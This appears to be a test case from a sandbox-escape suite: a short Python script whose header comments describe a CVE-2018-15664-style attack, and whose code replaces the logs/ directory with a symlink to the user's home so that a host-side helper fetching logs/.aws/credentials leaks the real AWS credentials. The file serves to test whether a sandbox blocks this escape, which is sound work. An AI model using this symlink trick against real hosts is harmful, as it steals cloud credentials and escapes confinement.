# family: tricked-helper
# tries: make the directory logs/ a symlink to the user's home, so that the host side fetching logs/.aws/credentials follows a symlink in the middle of the path
# source: https://nvd.nist.gov/vuln/detail/CVE-2018-15664
# exfil: yes
# fileapi: get logs/.aws/credentials
# stopped-when: canary-unread
# attempted-when: marker
import os
import shutil
import sys

if len(sys.argv) < 9:
    sys.exit("usage: TOKEN HOME HOSTTMP TCP UDP UNIX DECOY USERFILES")
print(f"ATTEMPTED {sys.argv[1]}", file=sys.stderr, flush=True)
if os.path.islink("logs") or os.path.isfile("logs"):
    os.unlink("logs")
elif os.path.isdir("logs"):
    shutil.rmtree("logs")
os.symlink(sys.argv[2], "logs")
print("logs/ is ready")
